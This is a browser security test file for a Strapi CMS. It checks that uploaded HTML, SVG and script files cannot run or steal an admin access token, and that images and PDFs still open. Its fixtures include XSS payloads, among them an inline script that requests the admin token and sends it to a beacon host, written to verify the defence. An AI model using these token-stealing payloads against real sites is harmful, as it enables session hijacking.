/// <reference lib="dom" />
/**
 * Issue #8 in a real browser (Debian chromium via playwright-core; ASVS 5.0 V3, V5):
 * - an admin with a live session opens an HTML page, an SVG and a script from /uploads (files
 *   stored before the allow-list, reached by the signed URL the Media Library gives): no script
 *   runs, nothing calls home, no access token is minted;
 * - a page of the public site's origin (same site, another port) includes `<script src>` of a
 *   stored script and calls /admin/access-token with the admin's cookies: the script is not
 *   executed and the call is refused and unreadable;
 * - an uploaded image and PDF still open normally.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import type { Core } from '@strapi/strapi';
import type { Browser, BrowserContext } from 'playwright-core';
import { launchChromium } from '../helpers/browser';
import { adminToken, createAdmin, TOKENS_WITHOUT_MFA } from '../helpers/admin';
import { setupStrapi, teardownStrapi } from '../helpers/strapi';
import { image, validPdf } from '../helpers/files';

jest.setTimeout(300_000);

const UPLOADS = path.resolve(__dirname, '../../public/uploads');
const FILE_UID = 'plugin::upload.file';
const PASSWORD = 'rumah-makan-padang-sejati';

let strapi: Core.Strapi;
let browser: Browser;
let cms = '';
let site = '';
let siteServer: http.Server;
const beacons: string[] = [];
const written: string[] = [];
let operator: any;
let token = '';
const tokenCalls: Array<{ status: number; secFetchSite: string | undefined }> = [];

beforeAll(async () => {
  strapi = await setupStrapi(TOKENS_WITHOUT_MFA);
  await new Promise<void>((resolve) => strapi.server.httpServer.listen(0, '127.0.0.1', () => resolve()));
  cms = `http://127.0.0.1:${(strapi.server.httpServer.address() as AddressInfo).port}`;
  // Record every refresh attempt the server sees (the attack's target).
  strapi.server.httpServer.prependListener('request', (req: http.IncomingMessage, res: http.ServerResponse) => {
    if (req.url?.startsWith('/admin/access-token')) res.on('finish', () => tokenCalls.push({ status: res.statusCode, secFetchSite: req.headers['sec-fetch-site'] as string | undefined }));
  });

  // The "public site": another port on the same host, i.e. same site, another origin.
  siteServer = http.createServer((req, res) => {
    if (req.url?.startsWith('/beacon')) {
      beacons.push(req.url);
      res.writeHead(204).end();
      return;
    }
    const page = decodeURIComponent((req.url ?? '').replace(/^\/page\?/, ''));
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(page);
  });
  await new Promise<void>((resolve) => siteServer.listen(0, '127.0.0.1', () => resolve()));
  site = `http://127.0.0.1:${(siteServer.address() as AddressInfo).port}`;

  operator = await createAdmin(strapi, 'operator', { password: PASSWORD });
  token = await adminToken(strapi, operator.id);
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => siteServer?.close(r));
  for (const f of written) fs.rmSync(f, { force: true });
  await teardownStrapi();
});

/** A file as the probe left it: bytes on disk and a row, stored before the allow-list existed. */
async function legacyFile(ext: string, content: string, mime: string) {
  const hash = `lama_${crypto.randomBytes(4).toString('hex')}`;
  const file = path.join(UPLOADS, `${hash}${ext}`);
  fs.writeFileSync(file, content);
  written.push(file);
  const row = await strapi.db.query(FILE_UID).create({ data: { name: `serangan${ext}`, hash, ext, mime, size: 1, url: `/uploads/${hash}${ext}`, provider: 'local' } });
  return row;
}

/** The URL the Media Library gives the admin for a file (signed). */
async function libraryUrl(id: number): Promise<string> {
  const res = await fetch(`${cms}/upload/files/${id}`, { headers: { Authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  const body = (await res.json()) as { url: string; isUrlSigned: boolean };
  expect(body.isUrlSigned).toBe(true);
  return `${cms}${body.url}`;
}

/** A browser context holding the operator's admin session (refresh cookie), as after signing in. */
async function adminContext(): Promise<BrowserContext> {
  const context = await browser.newContext({ acceptDownloads: true });
  const login = await context.request.post(`${cms}/admin/login`, { data: { email: operator.email, password: PASSWORD } });
  expect(login.status()).toBe(200);
  const cookies = await context.cookies(`${cms}/admin`);
  expect(cookies.find((c) => c.name === 'strapi_admin_refresh')).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/admin' });
  return context;
}

test('hole 1: an admin opening stored HTML/SVG/script files from /uploads runs no script and mints no token', async () => {
  const js = await legacyFile('.js', `fetch('${site}/beacon?js-ran'); document.title = 'PWNED';`, 'application/javascript');
  const html = await legacyFile(
    '.html',
    `<!doctype html><html><body><h1>Laporan</h1>
     <script>fetch('${site}/beacon?html-inline'); fetch('/admin/access-token',{method:'POST',credentials:'include'}).then(r=>r.text()).then(t=>fetch('${site}/beacon?token='+encodeURIComponent(t)));</script>
     <script src="${js.url}"></script><img src="${site}/beacon?html-img"></body></html>`,
    'text/html',
  );
  const svg = await legacyFile('.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${site}/beacon?svg-onload')"><script>fetch('${site}/beacon?svg-script')</script></svg>`, 'image/svg+xml');

  const context = await adminContext();
  const page = await context.newPage();
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const callsBefore = tokenCalls.length;
  for (const row of [html, svg, js]) {
    const url = await libraryUrl(row.id);
    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 15_000 }), page.goto(url).catch(() => null)]);
    // Served as an opaque attachment: the browser saves it instead of rendering it.
    expect(await download.failure()).toBeNull();
    await download.delete();
  }
  await page.waitForTimeout(1000);
  expect(beacons).toEqual([]);
  expect(requests.filter((u) => u.startsWith(site) || u.includes('/admin/access-token'))).toEqual([]);
  expect(tokenCalls.length).toBe(callsBefore);
  await context.close();
});

test('hole 1/4: a page of the site\'s origin cannot run a stored script nor use the admin\'s cookie', async () => {
  const js = await legacyFile('.js', `fetch('${site}/beacon?script-src-ran');`, 'application/javascript');
  const jsUrl = await libraryUrl(js.id);
  const context = await adminContext();
  const page = await context.newPage();
  const attack = `<!doctype html><html><head><title>mulai</title></head><body>
    <script src="${jsUrl}"></script>
    <script>
      fetch('${cms}/admin/access-token', { method: 'POST', credentials: 'include' })
        .then(function (r) { return r.text(); })
        .then(function (t) { document.title = 'BOCOR ' + t; fetch('${site}/beacon?leak'); })
        .catch(function () { document.title = 'ditolak'; });
    </script></body></html>`;
  const callsBefore = tokenCalls.length;
  await page.goto(`${site}/page?${encodeURIComponent(attack)}`);
  await page.waitForFunction(() => document.title !== 'mulai', null, { timeout: 15_000 });
  expect(await page.title()).toBe('ditolak');
  await page.waitForTimeout(500);
  expect(beacons).toEqual([]);
  // The request reached the server marked same-site and was refused without touching the session.
  const calls = tokenCalls.slice(callsBefore);
  expect(calls).toEqual([{ status: 403, secFetchSite: 'same-site' }]);
  await context.close();
});

test('uploaded images and PDFs still open in the browser', async () => {
  const context = await adminContext();
  const page = await context.newPage();
  const upload = async (bytes: Buffer, name: string, type: string) => {
    const form = new FormData();
    form.append('files', new Blob([new Uint8Array(bytes)], { type }), name);
    const res = await fetch(`${cms}/upload`, { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: form });
    expect(res.status).toBe(201);
    return ((await res.json()) as Array<{ id: number; url: string }>)[0];
  };
  const img = await upload(await image('png', 120), 'foto.png', 'image/png');
  const shown = await page.goto(await libraryUrl(img.id));
  expect(shown?.status()).toBe(200);
  expect(shown?.headers()['content-security-policy']).toBe("sandbox; default-src 'none'");
  const size = await page.evaluate(() => {
    const el = document.querySelector('img');
    return el ? { w: el.naturalWidth, h: el.naturalHeight } : null;
  });
  expect(size).toEqual({ w: 120, h: 120 });

  const pdf = await upload(validPdf(), 'laporan.pdf', 'application/pdf');
  const pdfUrl = await libraryUrl(pdf.id);
  const res = await context.request.get(pdfUrl);
  expect(res.status()).toBe(200);
  expect(res.headers()['content-type']).toBe('application/pdf');
  expect(res.headers()['content-disposition']).toBe('inline');
  expect(Buffer.from(await res.body()).equals(validPdf())).toBe(true);
  // Chromium's PDF viewer still shows it inline under `CSP: sandbox` (no download).
  let downloaded = false;
  page.on('download', () => {
    downloaded = true;
  });
  const opened = await page.goto(pdfUrl);
  expect((await opened?.allHeaders())?.['content-security-policy']).toBe("sandbox; default-src 'none'");
  const viewer = () => page.frames().some((f) => f.url().startsWith('chrome-extension://'));
  for (let waited = 0; !viewer() && waited < 15_000; waited += 250) await page.waitForTimeout(250);
  expect(viewer()).toBe(true);
  expect(downloaded).toBe(false);
  await context.close();
});
